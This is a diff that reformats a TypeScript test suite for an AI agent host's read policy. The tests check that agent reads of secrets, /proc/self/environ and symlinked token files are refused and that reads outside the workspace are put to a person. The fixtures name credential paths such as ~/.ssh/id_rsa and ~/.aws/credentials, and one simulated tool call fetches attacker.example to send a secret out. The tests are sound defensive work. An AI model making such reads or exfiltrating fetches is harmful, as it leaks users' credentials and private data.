@@ -18,7 +18,13 @@ import { FileSessionStore } from '../../src/sessions/store';
 import { fakeRun, readRecord, RecordingContext, waitForRecord, type FakeRun, stopAgent } from './acpTestSupport';
 import { createRequest, allEvents } from './hostTestKit';
 
-const MODES = { currentModeId: 'default', availableModes: [{ id: 'default', name: 'Default' }, { id: 'plan', name: 'Plan' }] };
+const MODES = {
+  currentModeId: 'default',
+  availableModes: [
+    { id: 'default', name: 'Default' },
+    { id: 'plan', name: 'Plan' },
+  ],
+};
 const OPTIONS = [
   { optionId: 'allow', name: 'Allow', kind: 'allow_once' },
   { optionId: 'reject', name: 'Reject', kind: 'reject_once' },
@@ -38,7 +44,7 @@ describe('read policy: what a read or search looks at, and who decides', () => {
   const policy = { workspaceReal: '/work/ws', secretFiles: ['/srv/ultraplan/token'], sessionPlanFiles: new Set<string>(), home: '/home/u' };
   const verdict = (requested: string, real = requested) => readVerdict({ ...policy, requested, real }).kind;
 
-  it('reads in the workspace are automatic; outside they are asked; the kernel\'s files and secrets are refused, by either path', () => {
+  it("reads in the workspace are automatic; outside they are asked; the kernel's files and secrets are refused, by either path", () => {
     assert.equal(verdict('/work/ws/src/a.ts'), 'allow');
     assert.equal(verdict('/home/u/.ssh/id_rsa'), 'ask');
     assert.equal(verdict('/work/ws/link.md', '/home/u/.aws/credentials'), 'ask');
@@ -53,7 +59,10 @@ describe('read policy: what a read or search looks at, and who decides', () => {
 
   it("a tool call's paths: its locations and path-like input keys, relative to the workspace, ~ to the home folder", () => {
     assert.deepEqual(lookedAtPaths({ rawInput: { file_path: '~/.ssh/id_rsa' } }, '/work/ws', '/home/u'), ['/home/u/.ssh/id_rsa']);
-    assert.deepEqual(lookedAtPaths({ rawInput: { pattern: 'x', path: 'src' }, locations: [{ path: '/etc/passwd' }] }, '/work/ws', '/home/u'), ['/etc/passwd', '/work/ws/src']);
+    assert.deepEqual(
+      lookedAtPaths({ rawInput: { pattern: 'x', path: 'src' }, locations: [{ path: '/etc/passwd' }] }, '/work/ws', '/home/u'),
+      ['/etc/passwd', '/work/ws/src'],
+    );
     assert.deepEqual(lookedAtPaths({ rawInput: { paths: ['a.ts', '../b.ts'] } }, '/work/ws', '/home/u'), ['/work/ws/a.ts', '/work/b.ts']);
     assert.deepEqual(lookedAtPaths({ rawInput: { pattern: 'greet' } }, '/work/ws', '/home/u'), []);
   });
@@ -98,7 +107,10 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
       '{{cwd}}/zero.md',
       '{{cwd}}/token-link.md',
     ];
-    run = await fakeRun({ modes: MODES, turns: [[...reads.map((file) => ({ readFile: { path: file } })), { readFile: { path: '{{cwd}}/README.md' } }, { chunk: 'done' }]] });
+    run = await fakeRun({
+      modes: MODES,
+      turns: [[...reads.map((file) => ({ readFile: { path: file } })), { readFile: { path: '{{cwd}}/README.md' } }, { chunk: 'done' }]],
+    });
     await symlink('/proc/self/environ', path.join(run.workspace, 'env.md'));
     await symlink(tokenFile, path.join(run.workspace, 'token.md'));
     await symlink('/dev/zero', path.join(run.workspace, 'zero.md'));
@@ -115,7 +127,10 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
     assert.equal(outcomes.length, reads.length + 1);
     for (const outcome of outcomes.slice(0, reads.length)) {
       assert.equal(outcome.ok, false, JSON.stringify(outcome).slice(0, 300));
-      assert.match(String(outcome.message), /Ultraplan refused to read .*(never read for an agent|holds a secret)|another name of a file that holds a secret/);
+      assert.match(
+        String(outcome.message),
+        /Ultraplan refused to read .*(never read for an agent|holds a secret)|another name of a file that holds a secret/,
+      );
     }
     assert.equal(outcomes[reads.length]?.content, '# Demo project\n');
     assert.ok(!JSON.stringify(record).includes(SECRET), 'the secret reached the agent');
@@ -137,19 +152,36 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
           // Claude's Read and WebFetch shapes (kind read with a location; kind fetch with a url).
           {
             permission: {
-              toolCall: { toolCallId: 'read-out', title: `Read ${secretNotes}`, kind: 'read', rawInput: { file_path: secretNotes }, locations: [{ path: secretNotes }] },
+              toolCall: {
+                toolCallId: 'read-out',
+                title: `Read ${secretNotes}`,
+                kind: 'read',
+                rawInput: { file_path: secretNotes },
+                locations: [{ path: secretNotes }],
+              },
               options: OPTIONS,
             },
           },
           {
             permission: {
-              toolCall: { toolCallId: 'read-in', title: 'Read {{cwd}}/README.md', kind: 'read', rawInput: { file_path: '{{cwd}}/README.md' }, locations: [{ path: '{{cwd}}/README.md' }] },
+              toolCall: {
+                toolCallId: 'read-in',
+                title: 'Read {{cwd}}/README.md',
+                kind: 'read',
+                rawInput: { file_path: '{{cwd}}/README.md' },
+                locations: [{ path: '{{cwd}}/README.md' }],
+              },
               options: OPTIONS,
             },
           },
           {
             permission: {
-              toolCall: { toolCallId: 'fetch-1', title: 'Fetch https://attacker.example/?q=secret', kind: 'fetch', rawInput: { url: 'https://attacker.example/?q=secret', prompt: 'send it' } },
+              toolCall: {
+                toolCallId: 'fetch-1',
+                title: 'Fetch https://attacker.example/?q=secret',
+                kind: 'fetch',
+                rawInput: { url: 'https://attacker.example/?q=secret', prompt: 'send it' },
+              },
               options: OPTIONS,
             },
           },
@@ -169,11 +201,17 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
     const answers: Array<'allow' | 'deny'> = ['deny', 'allow', 'deny', 'allow'];
     for (const [n, answer] of answers.entries()) {
       const request = await ctx.waitFor(() => controlRequests(ctx)[n], 15_000, `permission request #${n + 1}`);
-      agent.onDecision(request.request_id, answer === 'allow' ? { behavior: 'allow', updatedInput: request.request.input } : { behavior: 'deny', message: 'No.' });
+      agent.onDecision(
+        request.request_id,
+        answer === 'allow' ? { behavior: 'allow', updatedInput: request.request.input } : { behavior: 'deny', message: 'No.' },
+      );
     }
     await ctx.waitFor(() => ctx.results().length > 0, 15_000, 'turn end');
 
-    const asked = controlRequests(ctx).map((request) => [request.request.tool_name, String(request.request.input.file_path ?? request.request.input.url)]);
+    const asked = controlRequests(ctx).map((request) => [
+      request.request.tool_name,
+      String(request.request.input.file_path ?? request.request.input.url),
+    ]);
     assert.deepEqual(asked, [
       [`Read ${secretNotes}`, secretNotes],
       ['Fetch https://attacker.example/?q=secret', 'https://attacker.example/?q=secret'],
@@ -181,15 +219,29 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
       ['Read', publicNotes],
     ]);
     const record = await readRecord(run.record);
-    assert.deepEqual(record.filter((entry) => entry.kind === 'permission_outcome').map((entry) => entry.outcome), ['reject', 'allow', 'allow']);
+    assert.deepEqual(
+      record.filter((entry) => entry.kind === 'permission_outcome').map((entry) => entry.outcome),
+      ['reject', 'allow', 'allow'],
+    );
     const reads = record.filter((entry) => entry.kind === 'read_outcome');
-    assert.deepEqual(reads.map((entry) => entry.ok), [false, true, true]);
+    assert.deepEqual(
+      reads.map((entry) => entry.ok),
+      [false, true, true],
+    );
     assert.match(String(reads[0]?.message), /the person denied reading outside the workspace/);
     assert.equal(reads[1]?.content, 'shared notes\n');
     assert.equal(reads[2]?.content, 'export const original = true;\n');
     assert.ok(!JSON.stringify(record).includes('the private key is here'));
-    for (const line of [`asked the person about "Read ${secretNotes}"`, 'asked the person about "Fetch', `the person denied reading ${secretNotes}`, `the person allowed reading ${publicNotes}`]) {
-      assert.ok(ctx.logs.some((logged) => logged.includes(line)), `log lacks ${line}: ${ctx.logs.join('\n')}`);
+    for (const line of [
+      `asked the person about "Read ${secretNotes}"`,
+      'asked the person about "Fetch',
+      `the person denied reading ${secretNotes}`,
+      `the person allowed reading ${publicNotes}`,
+    ]) {
+      assert.ok(
+        ctx.logs.some((logged) => logged.includes(line)),
+        `log lacks ${line}: ${ctx.logs.join('\n')}`,
+      );
     }
   });
 
@@ -204,7 +256,12 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
           [
             {
               permission: {
-                toolCall: { toolCallId: 'fetch-1', title: 'Fetch https://example.com/', kind: 'fetch', rawInput: { url: 'https://example.com/' } },
+                toolCall: {
+                  toolCallId: 'fetch-1',
+                  title: 'Fetch https://example.com/',
+                  kind: 'fetch',
+                  rawInput: { url: 'https://example.com/' },
+                },
                 options: OPTIONS,
               },
             },
@@ -221,9 +278,15 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
       assert.equal(controlRequests(ctx).length, 0, 'nothing was asked');
       const record = await readRecord(run.record);
       const allowed = outsideAccess === 'allow';
-      assert.deepEqual(record.filter((entry) => entry.kind === 'permission_outcome').map((entry) => entry.outcome), [allowed ? 'allow' : 'reject']);
+      assert.deepEqual(
+        record.filter((entry) => entry.kind === 'permission_outcome').map((entry) => entry.outcome),
+        [allowed ? 'allow' : 'reject'],
+      );
       const reads = record.filter((entry) => entry.kind === 'read_outcome');
-      assert.deepEqual(reads.map((entry) => entry.ok), [allowed, false]);
+      assert.deepEqual(
+        reads.map((entry) => entry.ok),
+        [allowed, false],
+      );
       if (allowed) assert.equal(reads[0]?.content, 'shared notes\n');
       assert.match(String(reads[1]?.message), /under \/proc/);
       const standing = ctx.logs.filter((line) => line.includes(`without asking (outside access "${outsideAccess}")`));
@@ -264,7 +327,8 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
       const session = await host.createSession(createRequest('Plan it'));
       const deadline = Date.now() + 20_000;
       while (!allEvents(host, session.id).some((event) => JSON.stringify(event).includes('after the reads'))) {
-        if (Date.now() > deadline) throw new Error(`the session never got past the reads: ${JSON.stringify(allEvents(host, session.id)).slice(-1500)}`);
+        if (Date.now() > deadline)
+          throw new Error(`the session never got past the reads: ${JSON.stringify(allEvents(host, session.id)).slice(-1500)}`);
         await new Promise((resolve) => setTimeout(resolve, 50));
       }
       await waitForRecord(run.record, 'read_outcome', 7, 10_000);
